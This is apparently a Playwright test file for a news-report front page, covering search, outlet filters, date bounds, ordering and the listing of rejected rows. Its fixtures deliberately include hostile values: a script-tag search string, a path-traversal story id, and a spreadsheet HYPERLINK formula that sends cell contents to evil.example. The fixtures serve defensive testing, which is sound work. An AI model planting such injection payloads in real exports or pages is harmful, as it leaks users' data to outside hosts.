"""The front page finds a story: search, filters and orders."""

import json
from pathlib import Path

import pytest
from conftest import MANY, Open
from hostile import STORY_ID
from places import card, shown
from playwright.sync_api import expect

ALL = {"bridge", STORY_ID, "constructor", "lone/../1"}


def test_all_stories_are_shown_at_first(report: Path, open_page: Open) -> None:
    page = open_page(report)
    assert set(shown(page)) == ALL
    expect(page.locator("#shown")).to_contain_text("4")
    expect(page.locator("#shown")).to_have_attribute("role", "status")


@pytest.mark.parametrize(
    ("words", "found"),
    [
        ("Harrow Point", {"bridge"}),
        ("HARROW point", {"bridge"}),
        ("ferring", {"constructor"}),
        ("</title><script>", {STORY_ID}),
        ("zeppelin", set()),
        ("", ALL),
    ],
)
def test_the_search_finds_words_of_a_story(report: Path, open_page: Open, words: str, found: set[str]) -> None:
    page = open_page(report)
    page.locator("#search").fill(words)
    for story_id in ALL:
        expect(card(page, story_id)).to_be_visible(visible=story_id in found)
    expect(page.locator("#shown")).to_contain_text(str(len(found)) if found else "o")


def test_the_filter_knows_every_outlet(report: Path, open_page: Open) -> None:
    page = open_page(report)
    options = page.locator("#outlet option").evaluate_all("options => options.map(option => option.value)")
    assert options[0] == ""
    assert {"The Beacon", "City Post", '=HYPERLINK("https://evil.example/?"&A1,"open")'} <= {
        text.strip() for text in page.locator("#outlet option").all_inner_texts()
    }
    page.locator("#outlet").select_option(label="The Beacon")
    assert set(shown(page)) == {"bridge", "constructor"}
    page.locator("#outlet").select_option("")
    assert set(shown(page)) == ALL


@pytest.mark.parametrize(
    ("first", "last", "found"),
    [
        ("2031-03-07", "", {"constructor"}),
        ("", "2031-03-04", {"bridge"}),
        ("2031-03-06", "2031-03-06", {"bridge"}),
        ("2032-01-01", "", set()),
    ],
)
def test_dates_bound_what_is_shown(report: Path, open_page: Open, first: str, last: str, found: set[str]) -> None:
    page = open_page(report)
    page.locator("#from").fill(first)
    page.locator("#to").fill(last)
    assert set(shown(page)) == found


def test_filters_for_disputes_and_for_doubtful_briefs(report: Path, open_page: Open) -> None:
    page = open_page(report)
    page.locator("#disputed").check()
    assert set(shown(page)) == {"bridge", STORY_ID}
    page.locator("#disputed").uncheck()
    page.locator("#unsupported").check()
    assert set(shown(page)) == {"bridge", STORY_ID}
    page.locator("#search").fill("Harrow")
    assert shown(page) == ["bridge"]


@pytest.mark.parametrize(
    ("order", "first", "last"),
    [("size", "bridge", "lone/../1"), ("newest", "constructor", "lone/../1"), ("disputes", "bridge", None)],
)
def test_stories_are_put_in_order(report: Path, open_page: Open, order: str, first: str, last: str | None) -> None:
    page = open_page(report)
    page.locator("#sort").select_option(order)
    stories = shown(page)
    assert stories[0] == first
    assert set(stories) == ALL
    assert last is None or stories[-1] == last


def test_the_front_page_of_two_thousand_stories_holds_them_all_and_little_else(largest: Path, open_page: Open) -> None:
    page = open_page(largest)
    cards = page.locator(".card")
    assert cards.count() == MANY
    assert page.evaluate("document.querySelectorAll('*').length") <= 25 * MANY
    assert largest.stat().st_size <= 2_000_000
    page.locator("#search").fill("number 1999")
    assert shown(page) == ["story-1999"]
    page.locator("#search").fill("")
    page.locator("#disputed").check()
    expect(page.locator("#shown")).to_contain_text("500")
    assert len(shown(page)) == 500


def test_the_page_says_which_rows_were_not_used(report: Path, open_page: Open) -> None:
    rows = [json.loads(line) for line in (report.parent / "rejected.jsonl").read_text(encoding="utf-8").splitlines()]
    text = open_page(report).locator("body").evaluate("body => body.textContent")
    assert all(row["file"] in text and row["reason"] in text for row in rows)
